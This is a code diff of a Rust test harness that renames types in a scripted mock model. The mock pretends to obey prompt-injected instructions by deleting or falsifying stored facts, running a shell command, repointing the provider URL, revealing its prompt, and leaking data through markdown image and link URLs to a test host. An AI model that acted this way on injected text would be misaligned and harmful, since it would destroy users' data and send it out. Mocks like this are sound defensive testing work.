@@ -8,26 +8,26 @@ use factly_engine::providers::ProviderKind;
 use serde_json::{Value, json};
 
 use super::documents::{Deed, Targets};
-use super::errands::{self, Errand};
-use crate::chat::asked::{anthropic, openai};
+use super::errands::{self, ModelTask};
+use crate::chat::scripted_chat::{anthropic, openai};
 use crate::model_server::{Request, Scripted, Server};
 
-pub(crate) struct Obedient {
+pub(crate) struct ObedientModel {
     pub(crate) server: Server,
-    obeyed: Arc<Mutex<Obeyed>>,
+    obeyed: Arc<Mutex<ObeyedDeeds>>,
 }
 
 /// The deeds that it was brought to do, each with the prompt: None is the chat.
-pub(crate) type Obeyed = BTreeSet<(Option<Errand>, Deed)>;
+pub(crate) type ObeyedDeeds = BTreeSet<(Option<ModelTask>, Deed)>;
 
-impl Obedient {
+impl ObedientModel {
     pub(crate) fn start(kind: ProviderKind, targets: &Targets) -> Self {
-        let obeyed: Arc<Mutex<Obeyed>> = Arc::default();
+        let obeyed: Arc<Mutex<ObeyedDeeds>> = Arc::default();
         let (done, targets) = (Arc::clone(&obeyed), targets.clone());
         let server = Server::answering(move |_, request| {
             let before = text_of(request);
             let deeds = asked_for(&before, &targets);
-            let errand = Errand::of(request);
+            let errand = ModelTask::from_request(request);
             done.lock().expect("nobody panicked").extend(deeds.iter().map(|deed| (errand, *deed)));
             match errand {
                 Some(errand) => errands::answer(kind, errand, &deeds, &before, &targets),
@@ -38,7 +38,7 @@ impl Obedient {
     }
 
     /// Returns the deeds that it was brought to do since it was last made to forget.
-    pub(crate) fn obeyed(&self) -> Obeyed {
+    pub(crate) fn obeyed(&self) -> ObeyedDeeds {
         self.obeyed.lock().expect("nobody panicked").clone()
     }
 
@@ -84,49 +84,49 @@ fn asked_for(text: &str, targets: &Targets) -> BTreeSet<Deed> {
 fn answer(kind: ProviderKind, deeds: &BTreeSet<Deed>, before: &str, targets: &Targets) -> Scripted {
     let (mut words, mut calls) = (String::from("As you wish."), Vec::new());
     for deed in deeds {
-        match said(*deed, before, targets) {
-            Done::Words(more) => words = format!("{words}\n\n{more}"),
-            Done::Calls(more) => calls.extend(more),
+        match obey(*deed, before, targets) {
+            DeedReply::Words(more) => words = format!("{words}\n\n{more}"),
+            DeedReply::Calls(more) => calls.extend(more),
         }
     }
     if kind == ProviderKind::Anthropic { anthropic(&words, &calls) } else { openai(&words, &calls) }
 }
 
-pub(crate) enum Done {
+pub(crate) enum DeedReply {
     Words(String),
     Calls(Vec<(&'static str, Value)>),
 }
 
-pub(crate) fn said(deed: Deed, before: &str, targets: &Targets) -> Done {
+pub(crate) fn obey(deed: Deed, before: &str, targets: &Targets) -> DeedReply {
     let (host, file) = (&targets.host, targets.file.to_string_lossy());
     match deed {
-        Deed::DeleteFacts => Done::Calls(deletions(before, &["F"])),
-        Deed::DeleteEverything => Done::Calls(deletions(before, &["I", "F", "N"])),
+        Deed::DeleteFacts => DeedReply::Calls(deletions(before, &["F"])),
+        Deed::DeleteEverything => DeedReply::Calls(deletions(before, &["I", "F", "N"])),
         Deed::EditFact => {
             let edit = json!({ "entity_type": "fact", "item_id": "F-1", "new_text": "There is no wall at all." });
-            Done::Calls(vec![("edit_item", edit)])
+            DeedReply::Calls(vec![("edit_item", edit)])
         }
         Deed::AddFact => {
-            Done::Calls(vec![("add_item", json!({ "entity_type": "fact", "text": "The mayor took a bribe." }))])
+            DeedReply::Calls(vec![("add_item", json!({ "entity_type": "fact", "text": "The mayor took a bribe." }))])
         }
         Deed::ConfirmAll => {
             let confirm = ("confirm_card", json!({ "card": "all", "confirmed": true, "status": "applied" }));
-            Done::Calls(deletions(before, &["F"]).into_iter().chain([confirm]).collect())
+            DeedReply::Calls(deletions(before, &["F"]).into_iter().chain([confirm]).collect())
         }
-        Deed::RunShell => Done::Calls(vec![("run_shell", json!({ "command": format!("touch {file}") }))]),
-        Deed::WriteFile => Done::Calls(vec![("write_file", json!({ "path": file, "content": before }))]),
-        Deed::Fetch => Done::Calls(vec![("http_get", json!({ "url": format!("{host}/orders") }))]),
-        Deed::ChangeProvider => Done::Calls(vec![("set_provider", json!({ "base_url": host }))]),
-        Deed::LeakByImage => Done::Words(format!("![wall]({host}/pixel.png?d={})", before.len())),
-        Deed::LeakByLink => Done::Words(format!("[more]({host}/more?d=F-1) <{host}/auto> [x]: {host}/reference")),
-        Deed::RevealPrompt => Done::Words(before.to_owned()),
+        Deed::RunShell => DeedReply::Calls(vec![("run_shell", json!({ "command": format!("touch {file}") }))]),
+        Deed::WriteFile => DeedReply::Calls(vec![("write_file", json!({ "path": file, "content": before }))]),
+        Deed::Fetch => DeedReply::Calls(vec![("http_get", json!({ "url": format!("{host}/orders") }))]),
+        Deed::ChangeProvider => DeedReply::Calls(vec![("set_provider", json!({ "base_url": host }))]),
+        Deed::LeakByImage => DeedReply::Words(format!("![wall]({host}/pixel.png?d={})", before.len())),
+        Deed::LeakByLink => DeedReply::Words(format!("[more]({host}/more?d=F-1) <{host}/auto> [x]: {host}/reference")),
+        Deed::RevealPrompt => DeedReply::Words(before.to_owned()),
     }
 }
 
 /// A call for every label of these letters that it has read.
 fn deletions(before: &str, letters: &[&str]) -> Vec<(&'static str, Value)> {
-    let meant = labels_in(before).into_iter().filter(|label| letters.contains(&label.kind.letter()));
-    meant
+    let targets = labels_in(before).into_iter().filter(|label| letters.contains(&label.kind.letter()));
+    targets
         .map(|label| ("delete_item", json!({ "entity_type": label.kind.as_str(), "item_id": label.to_string() })))
         .collect()
 }
